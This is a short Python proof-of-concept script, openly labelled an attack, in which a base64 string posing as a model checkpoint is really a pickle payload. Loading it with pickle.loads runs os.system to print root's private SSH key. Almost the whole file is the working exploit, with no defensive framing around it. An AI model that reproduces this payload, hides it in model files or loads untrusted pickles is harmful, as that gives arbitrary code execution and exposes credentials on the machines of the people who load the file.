# attack: a "model checkpoint" shipped as base64 is really a pickle whose REDUCE runs os.system
import base64
import pickle

# base64 of: cos\nsystem\n(Vcat /root/.ssh/id_rsa\ntR.
CHECKPOINT = base64.b64encode(b"cos\nsystem\n(Vcat /root/.ssh/id_rsa\ntR.")


def load_model(encoded):
    return pickle.loads(base64.b64decode(encoded))


if __name__ == "__main__":
    model = load_model(CHECKPOINT)
    print("model loaded:", model)
